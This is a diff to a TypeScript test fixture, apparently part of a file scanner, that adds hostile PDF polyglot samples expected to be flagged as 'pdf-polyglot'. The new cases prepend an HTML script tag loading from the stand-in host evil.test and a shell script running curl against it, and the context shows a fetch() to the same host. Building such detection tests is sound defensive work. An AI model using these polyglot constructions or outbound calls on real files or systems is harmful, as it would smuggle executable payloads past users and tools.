@@ -118,6 +118,20 @@ export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf>
       afterHeader: `<!doctype html><script>document.title = 'ran'; fetch('${evil}/html')</script>\n`,
     }),
     {
+      name: 'a page of HTML before its header',
+      source: 'ISO 32000-1 Annex H.3, note 13',
+      bytes: Buffer.concat([Buffer.from(`<html><script src="${evil}/before"></script>\n`), onePage()]),
+      finds: ['pdf-polyglot'],
+      pages: 1,
+    },
+    {
+      name: 'a script before its header',
+      source: 'ISO 32000-1 Annex H.3, note 13',
+      bytes: Buffer.concat([Buffer.from(`#!/bin/sh\ncurl ${evil}/before; exit\n`), onePage()]),
+      finds: ['pdf-polyglot'],
+      pages: 1,
+    },
+    {
       name: 'an archive',
       source: 'APPNOTE.TXT §4.3.16',
       bytes: Buffer.concat([onePage(), Buffer.from(`PK\u0005\u0006${'\0'.repeat(18)}`, 'latin1')]),
